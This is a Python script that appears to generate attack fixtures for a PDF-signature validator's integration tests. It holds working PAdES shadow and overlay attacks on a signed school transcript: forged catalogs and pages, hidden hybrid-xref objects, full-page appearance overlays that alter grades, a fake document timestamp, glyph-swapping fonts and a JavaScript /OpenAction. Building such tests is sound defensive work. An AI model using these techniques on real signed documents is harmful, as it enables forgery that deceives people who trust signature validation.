#!/usr/bin/env python3
"""Craft reader-disagreement and overlay attacks on a kyso-signed PDF, and
the legitimate files next to them, for tests/integration/pades_shadow.sh.
Standard library plus the openssl command.

usage: pades_shadow.py ATTACK IN OUT [PKI-DIR]

Each attack appends one incremental update to a signed transcript (the
sample docs/examples/hocba.pdf: catalog 1, page 3, content 4, fonts 5, 6):
  dup-root        trailer with /Root twice: the second names a forged catalog
                  (kyso's reader takes the first key, viewers the last)
  dup-pages       catalog rewritten with a second /Pages to a forged tree
  dup-mediabox    page rewritten with a second /MediaBox
  direct-root     trailer /Root as a direct dictionary adding /OpenAction
  direct-encrypt  trailer gains a direct /Encrypt dictionary
  hybrid-free     hybrid update: the table frees the page content, its
                  /XRefStm keeps it, a forged "4 0 obj" hides in a stream
                  (a repairing viewer finds it)
  hybrid-prev     hybrid update whose /XRefStm stream has a /Prev of its own
                  (readers that follow it see another chain)
  widget-kid      a new widget whose /Parent is the signed signature field,
                  with a full-page appearance over the grades
  shared-sigdict  a new signature field whose /V is the signed signature
                  dictionary, with a full-page appearance
  fake-docts      a new signature field whose /V is a stream claiming
                  /Type /DocTimeStamp, with a full-page appearance
  docts-overlay   a real RFC 3161 document timestamp (test TSA) whose
                  widget covers the page with an appearance
  docts-invisible the same timestamp with an invisible widget (allowed)
  needapp-font    /NeedAppearances true and the form's font re-pointed at
                  one whose /Differences change the filled value's glyphs
Helpers for the permitted side:
  mkform          add a filled text field (before signing)
  mkfields        add two empty signature fields GVCN and HieuTruong
  eof-no-eol      sign with openssl cms (adbe.pkcs7.detached) in an update
                  whose %%EOF has no EOL after it
"""
import hashlib
import os
import re
import subprocess
import sys
import tempfile

OVERLAY = (b"1 1 1 rg 240 590 250 80 re f\n"
           b"0 0 0 rg BT /F2 14 Tf 250 640 Td (9.5) Tj 80 0 Td (9.8) Tj ET\n")
FORGED = b"BT /F2 28 Tf 60 400 Td (FORGED: Diem trung binh 10.0) Tj ET\n"


def objects(data):
    """Newest definition offset of every 'N 0 obj'."""
    found = {}
    for m in re.finditer(rb"(?<![0-9])(\d+) (\d+) obj\b", data):
        found[int(m.group(1))] = m.start()
    return found


def body(data, num):
    m = re.compile(rb"\d+ \d+ obj\s*(.*?)\s*endobj", re.S).match(data, objects(data)[num])
    if not m:
        raise SystemExit("object %d not found" % num)
    return m.group(1)


def last_startxref(data):
    return int(re.findall(rb"startxref\s+(\d+)", data)[-1])


def stream(data, extra=b""):
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(data), extra, data)


def form_xobject(data):
    return stream(data, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] "
                  b"/Resources << /Font << /F2 6 0 R >> >> ")


def update(data, defs, trailer=None, size=None):
    """Append an update defining {num: body}; trailer: the trailer keys
    (without << >> and /Prev) or None for /Size /Root /Info."""
    out = bytearray(data)
    if not out.endswith(b"\n"):
        out += b"\n"
    offsets = {}
    for num, text in sorted(defs.items()):
        offsets[num] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (num, text)
    xref = len(out)
    out += b"xref\n"
    for num in sorted(offsets):
        out += b"%d 1\n%010d 00000 n \n" % (num, offsets[num])
    if size is None:
        size = max(list(objects(data)) + list(defs)) + 1
    if trailer is None:
        trailer = b"/Size %d /Root 1 0 R /Info 7 0 R" % size
    out += b"trailer\n<< %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        trailer, last_startxref(data), xref)
    return bytes(out)


def acroform(data):
    return [k for k in objects(data) if re.match(rb"<<\s*/Fields", body(data, k))][-1]


def add_annot(page, num):
    if re.search(rb"/Annots\s*\[", page):
        return re.sub(rb"/Annots\s*\[", b"/Annots [%d 0 R " % num, page, count=1)
    return page[:-2] + b" /Annots [%d 0 R] >>" % num


def with_byterange(out, start, hexlen, sign):
    """Fill the /ByteRange placeholder and /Contents of the update that
    begins at `start`; sign(bytes) returns the DER to put in."""
    ph = b"/ByteRange [0 0000000000 0000000000 0000000000]"
    c0 = out.index(b"/Contents <" + b"0" * 64, start) + len(b"/Contents ")
    c1 = c0 + hexlen + 2
    p = out.index(ph, start)
    out[p:p + len(ph)] = b"/ByteRange [0 %010d %010d %010d]" % (c0, c1, len(out) - c1)
    der = sign(bytes(out[:c0]) + bytes(out[c1:])).hex().upper().encode()
    if len(der) > hexlen:
        raise SystemExit("signature larger than its placeholder")
    out[c0 + 1:c0 + 1 + len(der)] = der
    return bytes(out)


def tsa_token(content, pki, tmp):
    cnf = os.path.join(tmp, "tsa.cnf")
    with open(cnf, "w") as f:
        f.write("[ tsa ]\ndefault_tsa = t\n[ t ]\nserial = %s/serial\n"
                "crypto_device = builtin\nsigner_digest = sha256\n"
                "default_policy = 1.2.3.4.1\ndigests = sha256\naccuracy = secs:1\n"
                "ess_cert_id_alg = sha256\n" % tmp)
    subprocess.run(["openssl", "ts", "-query", "-digest", hashlib.sha256(content).hexdigest(),
                    "-sha256", "-cert", "-out", tmp + "/q.tsq"], check=True,
                   capture_output=True)
    subprocess.run(["openssl", "ts", "-reply", "-config", cnf, "-queryfile", tmp + "/q.tsq",
                    "-signer", pki + "/tsa-rsa.cert.pem", "-inkey", pki + "/tsa-rsa.key.pem",
                    "-chain", pki + "/tsa-rsa.chain.pem", "-token_out", "-out",
                    tmp + "/tok.der"], check=True, capture_output=True)
    with open(tmp + "/tok.der", "rb") as f:
        return f.read()


def cms_sign(content, pki, who, tmp):
    with open(tmp + "/d", "wb") as f:
        f.write(content)
    subprocess.run(["openssl", "cms", "-sign", "-binary", "-in", tmp + "/d", "-outform", "DER",
                    "-signer", "%s/%s.cert.pem" % (pki, who), "-inkey",
                    "%s/%s.key.pem" % (pki, who), "-certfile", "%s/%s.chain.pem" % (pki, who),
                    "-md", "sha256", "-out", tmp + "/s"], check=True, capture_output=True)
    with open(tmp + "/s", "rb") as f:
        return f.read()


def craft(attack, data, pki):
    objs = objects(data)
    n = max(objs) + 1
    cat, page = body(data, 1), body(data, 3)
    if attack in ("dup-root", "dup-pages"):
        tree, newpage, cont = n + 1, n + 2, n + 3
        defs = {
            tree: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % newpage,
            newpage: page.replace(b"/Parent 2 0 R", b"/Parent %d 0 R" % tree)
            .replace(b"/Contents 4 0 R", b"/Contents %d 0 R" % cont),
            cont: stream(FORGED),
        }
        if attack == "dup-root":
            defs[n] = cat.replace(b"/Pages 2 0 R", b"/Pages %d 0 R" % tree)
            return update(data, defs, trailer=b"/Size %d /Root 1 0 R /Info 7 0 R /Root %d 0 R"
                          % (n + 4, n))
        defs[1] = cat[:-2] + b" /Pages %d 0 R >>" % tree
        return update(data, defs, size=n + 4)
    if attack == "dup-mediabox":
        return update(data, {3: page[:-2] + b" /MediaBox [0 0 595.28 300] >>"})
    if attack == "direct-root":
        direct = cat[:-2] + b" /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"
        return update(data, {n: b"null"}, trailer=b"/Size %d /Info 7 0 R /Root %s"
                      % (n + 1, direct))
    if attack == "direct-encrypt":
        enc = (b"<< /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P -4 >>"
               % (b"00" * 32, b"00" * 32))
        return update(data, {n: b"null"}, trailer=b"/Size %d /Root 1 0 R /Info 7 0 R "
                      b"/Encrypt %s" % (n + 1, enc))
    if attack == "hybrid-free":
        first4 = [m.start() for m in re.finditer(rb"(?<![0-9])4 0 obj", data)][0]
        out = bytearray(data)
        hidden = b"\n4 0 obj\n%s\nendobj\n" % stream(FORGED)
        u_off = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (n + 1, stream(hidden))
        rows = b"\x01" + first4.to_bytes(4, "big") + b"\x00"
        xs_off = len(out)
        out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 1] /Index [4 1] /Length %d >>\n"
                b"stream\n" % (n, n + 2, len(rows)) + rows + b"\nendstream\nendobj\n")
        xr = len(out)
        out += b"xref\n4 1\n0000000000 00001 f \n%d 1\n%010d 00000 n \n" % (n + 1, u_off)
        out += (b"trailer\n<< /Size %d /Root 1 0 R /Info 7 0 R /Prev %d /XRefStm %d >>\n"
                b"startxref\n%d\n%%%%EOF\n" % (n + 2, last_startxref(data), xs_off, xr))
        return bytes(out)
    if attack == "hybrid-prev":
        out = bytearray(data)
        extra = n + 1
        e_off = len(out)
        out += b"%d 0 obj\nnull\nendobj\n" % extra
        rows = b"\x01" + e_off.to_bytes(4, "big") + b"\x00"
        xs_off = len(out)
        out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 1] /Index [%d 1] /Prev %d "
                b"/Length %d >>\nstream\n" % (n, n + 2, extra, last_startxref(data), len(rows))
                + rows + b"\nendstream\nendobj\n")
        xr = len(out)
        out += b"xref\n%d 1\n%010d 00000 n \n" % (n, xs_off)
        out += (b"trailer\n<< /Size %d /Root 1 0 R /Info 7 0 R /Prev %d /XRefStm %d >>\n"
                b"startxref\n%d\n%%%%EOF\n" % (n + 2, last_startxref(data), xs_off, xr))
        return bytes(out)
    if attack == "widget-kid":
        sigfield = [k for k in objs
                    if re.search(rb"/FT\s*/Sig\b.*?/V\s+\d+ 0 R", body(data, k), re.S)][-1]
        return update(data, {
            n: b"<< /Type /Annot /Subtype /Widget /Parent %d 0 R /Rect [0 0 595 842] /F 4 "
               b"/P 3 0 R /AP << /N %d 0 R >> >>" % (sigfield, n + 1),
            n + 1: form_xobject(OVERLAY),
            3: add_annot(page, n)})
    if attack in ("shared-sigdict", "fake-docts"):
        af = acroform(data)
        if attack == "shared-sigdict":
            value = [k for k in objs if b"/ByteRange" in body(data, k)][-1]
            extra = {}
        else:
            value = n + 2
            extra = {n + 2: stream(b"x", b"/Type /DocTimeStamp ")}
        defs = {
            n: b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (X) /V %d 0 R "
               b"/Rect [0 0 595 842] /F 4 /P 3 0 R /AP << /N %d 0 R >> >>" % (value, n + 1),
            n + 1: form_xobject(OVERLAY),
            3: add_annot(page, n),
            af: body(data, af).replace(b"/Fields [", b"/Fields [%d 0 R " % n)}
        defs.update(extra)
        return update(data, defs)
    if attack in ("docts-overlay", "docts-invisible"):
        af = acroform(data)
        hexlen = 16000
        if attack == "docts-overlay":
            widget = b"/Rect [0 0 595 842] /F 4 /AP << /N %d 0 R >>" % (n + 2)
            extra = {n + 2: form_xobject(OVERLAY)}
        else:
            widget = b"/Rect [0 0 0 0] /F 132"
            extra = {}
        defs = {
            n: b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (DocTS) /V %d 0 R %s /P 3 0 R >>"
               % (n + 1, widget),
            n + 1: b"<< /Type /DocTimeStamp /Filter /Adobe.PPKLite /SubFilter /ETSI.RFC3161 "
                   b"/ByteRange [0 0000000000 0000000000 0000000000] /Contents <%s> >>"
                   % (b"0" * hexlen),
            3: add_annot(page, n),
            af: body(data, af).replace(b"/Fields [", b"/Fields [%d 0 R " % n)}
        defs.update(extra)
        with tempfile.TemporaryDirectory() as tmp:
            return with_byterange(bytearray(update(data, defs)), len(data), hexlen,
                                  lambda c: tsa_token(c, pki, tmp))
    if attack == "needapp-font":
        af = acroform(data)
        fb = re.sub(rb"/DR << /Font << /F1 \d+ 0 R >> >>",
                    b"/DR << /Font << /F1 %d 0 R >> >> /NeedAppearances true" % n,
                    body(data, af))
        font = (b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding << /Type "
                b"/Encoding /BaseEncoding /WinAnsiEncoding /Differences [97 /nine /eight "
                b"/seven] >> >>")
        return update(data, {af: fb, n: font})
    if attack == "mkform":
        ap = stream(b"/Tx BMC BT /F1 12 Tf 2 5 Td (abc) Tj ET EMC",
                    b"/Type /XObject /Subtype /Form /BBox [0 0 200 20] "
                    b"/Resources << /Font << /F1 5 0 R >> >> ")
        return update(data, {
            n: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (Ghichu) /V (abc) "
               b"/DA (/F1 12 Tf 0 g) /Rect [60 100 260 120] /F 4 /P 3 0 R "
               b"/AP << /N %d 0 R >> >>" % (n + 1),
            n + 1: ap,
            n + 2: b"<< /Fields [%d 0 R] /DA (/F1 12 Tf 0 g) /DR << /Font << /F1 5 0 R >> >> >>"
                   % n,
            3: add_annot(page, n),
            1: cat[:-2] + b" /AcroForm %d 0 R >>" % (n + 2)})
    if attack == "mkfields":
        return update(data, {
            n: b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (GVCN) /Rect [60 60 260 130] "
               b"/F 4 /P 3 0 R >>",
            n + 1: b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (HieuTruong) "
                   b"/Rect [330 60 550 130] /F 4 /P 3 0 R >>",
            n + 2: b"<< /Fields [%d 0 R %d 0 R] /SigFlags 3 >>" % (n, n + 1),
            3: page[:-2] + b" /Annots [%d 0 R %d 0 R] >>" % (n, n + 1),
            1: cat[:-2] + b" /AcroForm %d 0 R >>" % (n + 2)})
    if attack == "eof-no-eol":
        hexlen = 30000
        m = re.search(rb"/AcroForm (\d+) 0 R", cat)
        defs = {
            n: b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Mini) /V %d 0 R /F 132 "
               b"/Rect [0 0 0 0] /P 3 0 R >>" % (n + 1),
            n + 1: b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached "
                   b"/M (D:20260101000000Z) /ByteRange [0 0000000000 0000000000 0000000000] "
                   b"/Contents <%s> >>" % (b"0" * hexlen),
            3: add_annot(page, n)}
        if m:
            af = int(m.group(1))
            defs[af] = body(data, af).replace(b"/Fields [", b"/Fields [%d 0 R " % n)
        else:
            defs[n + 2] = b"<< /Fields [%d 0 R] /SigFlags 3 >>" % n
            defs[1] = cat[:-2] + b" /AcroForm %d 0 R >>" % (n + 2)
        out = bytearray(update(data, defs))
        if not out.endswith(b"%%EOF\n"):
            raise SystemExit("unexpected update ending")
        del out[-1]
        with tempfile.TemporaryDirectory() as tmp:
            return with_byterange(out, len(data), hexlen,
                                  lambda c: cms_sign(c, pki, "homeroom-rsa", tmp))
    raise SystemExit("unknown attack " + attack)


def main():
    if len(sys.argv) < 4:
        raise SystemExit(__doc__)
    attack, src, dst = sys.argv[1:4]
    pki = sys.argv[4] if len(sys.argv) > 4 else os.environ.get("KYSO_PKI_DIR", "build/pki")
    with open(src, "rb") as f:
        data = f.read()
    out = craft(attack, data, pki)
    with open(dst, "wb") as f:
        f.write(out)


if __name__ == "__main__":
    main()
